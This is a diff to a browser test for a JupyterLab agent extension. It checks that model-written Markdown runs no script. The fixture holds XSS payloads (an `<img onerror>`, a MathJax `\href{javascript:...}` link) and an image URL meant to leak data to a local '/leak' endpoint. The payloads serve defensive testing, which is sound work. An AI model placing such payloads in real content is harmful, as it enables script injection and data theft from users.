@@ -3,7 +3,7 @@ below itself, not run; running it again leaves two, not four; the saved notebook
 their mark; a strict replay of the research log after a restart proposes the same cells; a
 proposal the user edited or ran is kept when the cell runs again, and Run All, which runs the old
 proposals along with the agent cell, does not pile them up; and Markdown the model wrote (an
-`<img onerror>`) runs no script.
+`<img onerror>`, a MathJax `\\href{javascript:...}`) runs no script.
 
 A real JupyterLab on localhost with the built extension (`make labextension`) and Debian's
 Chromium driven by Playwright, as in the sidebar's browser test. Screenshots go to
@@ -35,7 +35,8 @@ from test_inspector_browser import ARTIFACTS
 CODE = "total = sum([1, 2, 3])\ntotal"
 NOTE = (
     '## The total\nThe sum of the first three numbers. <img src=x onerror="window.__pwned = 1">\n'
-    "![chart](http://127.0.0.1:9/leak?d=total)"  # would send the server what the model put in it
+    "![chart](http://127.0.0.1:9/leak?d=total)\n"  # would send the server what the model put in it
+    "See $\\href{javascript:window.__pwned=2}{\\text{the sum}}$."  # JupyterLab's MathJax drops it
 )
 SHOWN_NOTE = inert_markdown(NOTE)  # as the cell holds it: the image a link, the HTML text
 SCRIPT = {
@@ -163,6 +164,11 @@ def test_an_agent_cell_with_cells_leaves_two_proposals_that_a_rerun_replaces(
             _assert_two_proposals_below_the_agent_cell(cells)
             assert page.evaluate("() => window.__pwned") is None
             assert not [u for u in fetched if "/leak" in u], "a proposed cell loaded an image"
+            rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
+            expect(rendered.locator("mjx-container")).to_have_count(1)  # the math was typeset
+            expect(rendered.locator("[href^='javascript' i]")).to_have_count(0)
+            rendered.locator("mjx-container").click()
+            assert page.evaluate("() => window.__pwned") is None
             note = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-deepagent-proposals")
             expect(note).to_have_text("The agent proposed 2 cells, inserted below (not run).")
             # the kernel ran the cell after them, but none of them
